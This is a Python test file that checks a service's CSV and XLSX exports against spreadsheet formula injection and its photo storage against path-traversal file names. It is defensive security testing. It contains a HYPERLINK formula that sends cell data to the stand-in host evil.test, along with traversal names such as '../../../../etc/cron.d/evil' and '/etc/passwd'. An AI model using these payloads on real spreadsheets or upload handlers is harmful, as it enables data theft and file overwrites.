"""Files as weapons: formulas in cells, names that are paths, and who may write files at all."""

import csv
import io
import json
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from service.domain.people import Role
from service.files.photos import PhotoShelf
from service.files.reading import ESCAPED, read_table
from service.files.tables import MEDIA_TYPES, FileKind
from service.files.writing import write_table
from tests.api.test_permissions import OPERATIONS, named
from tests.architecture.source import source_files
from tests.factories.deliveries import PICTURE
from tests.factories.things import add_catalogue_things, add_things

FORMULAS = st.builds(
    lambda quotes, mark, rest: quotes + mark + rest,
    st.text(alphabet="'", max_size=2),
    st.sampled_from(ESCAPED),
    st.text(st.characters(min_codepoint=32, max_codepoint=0x2FF), max_size=20),
)
EXPORTS = [
    operation
    for operation in OPERATIONS
    if MEDIA_TYPES[FileKind.CSV] in operation.document["responses"].get("200", {}).get("content", {})
]
HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"klik")'


def test_every_list_of_the_trade_can_be_had_as_a_file():
    assert len(EXPORTS) > 12


def test_no_module_writes_spreadsheets_but_the_one_that_escapes():
    writers = {
        file.name
        for file in source_files()
        if "xlsxwriter" in file.text or "csv.writer" in file.text or "csv.DictWriter" in file.text
    }
    assert writers == {"service/files/writing.py"}


@given(FORMULAS)
def test_no_text_in_a_csv_is_a_formula(text):
    content = write_table(FileKind.CSV, ["nama"], [[text]])
    (cell,) = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))[1]
    assert not cell.startswith(ESCAPED)
    assert cell.endswith(text)


@given(FORMULAS)
def test_no_name_of_a_column_in_a_csv_is_a_formula(text):
    """An import answers with the columns that it was sent, those that it does not know included."""
    content = write_table(FileKind.CSV, [text, "hasil"], [["1", "baik"]])
    (name, _), _ = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    assert not name.startswith(ESCAPED)
    assert name.endswith(text)


@given(FORMULAS)
def test_no_text_in_a_workbook_is_a_formula_or_a_link(text):
    with zipfile.ZipFile(io.BytesIO(write_table(FileKind.XLSX, ["nama"], [[text]]))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet.lower()
        assert not [name for name in book.namelist() if "external" in name.lower()]


@settings(deadline=None)  # workbooks are read by a process of their own
@given(FORMULAS)
def test_what_was_escaped_is_read_back_as_it_was(text):
    for kind in FileKind:
        content = write_table(kind, ["nama"], [[f"{text}x"]])
        assert str(read_table(content, kind).rows[0][1][0]).strip() == f"{text}x".strip()


@pytest.fixture
async def things(session, world):
    for organisation in world.organisations.values():
        organisation.name = HOSTILE
        session.add(organisation)
    for user in world.users.values():
        user.full_name = HOSTILE
        session.add(user)
    await session.flush()
    return await add_catalogue_things(session) | await add_things(session, world)


async def test_a_hostile_name_is_text_in_every_export(client_as, things):
    wrong, seen = [], 0
    for operation in EXPORTS:
        for role in (Role.CITY_OPERATOR, Role.COOP_OFFICER, Role.WHOLESALER, Role.KITCHEN_HEAD):
            request = operation.request(things)
            answer = await client_as(role).request(**{**request, "params": {**request["params"], "format": "csv"}})
            if answer.status_code != 200:
                continue
            for line in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=";"):
                seen += HOSTILE in "".join(line)
                wrong += [f"{named(operation)}: {cell}" for cell in line if cell.startswith(("=", "+", "@"))]
    assert wrong == []
    assert seen > 3


@pytest.mark.parametrize(
    "name", ["../../../../etc/cron.d/evil", "..\\..\\evil.exe", "/etc/passwd", "a\x00b.png", "." * 300]
)
async def test_the_name_of_an_uploaded_file_names_nothing_here(tmp_path, name):
    """Pictures are named by their own bytes; whatever the sender calls them is not asked."""
    shelf = PhotoShelf(tmp_path / "photos")
    digest = shelf.put(PICTURE)
    assert [path.name for path in tmp_path.rglob("*") if path.is_file()] == [digest]
    for ask in (shelf.get, lambda one: shelf.remove([one]), lambda one: shelf.missing([one])):
        with pytest.raises(ValueError, match="not a SHA-256"):
            ask(name)


async def test_no_answer_tells_where_files_lie(client_as):
    told = json.dumps((await client_as(Role.AUDITOR).get("/receipts")).json())
    assert "/var/" not in told
